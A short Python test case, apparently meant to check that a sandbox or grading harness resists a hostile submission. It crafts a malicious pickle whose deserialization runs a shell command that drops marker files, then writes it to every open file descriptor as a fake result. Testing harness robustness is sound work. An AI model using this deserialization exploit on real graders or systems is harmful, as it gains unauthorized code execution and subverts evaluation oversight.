# sends a pickle that leaves a file wherever it is opened
# expect: crashed
def find(session, mapping):
    import os
    import pickle

    class Bomb:
        def __reduce__(self):
            return os.system, ("touch ~/zero-copy-was-here /tmp/zero-copy-was-here",)

    data = pickle.dumps(Bomb())
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        try:
            os.write(descriptor, b"done\n" + len(data).to_bytes(4, "little") + data + bytes(4))
        except OSError:
            continue
    os._exit(0)
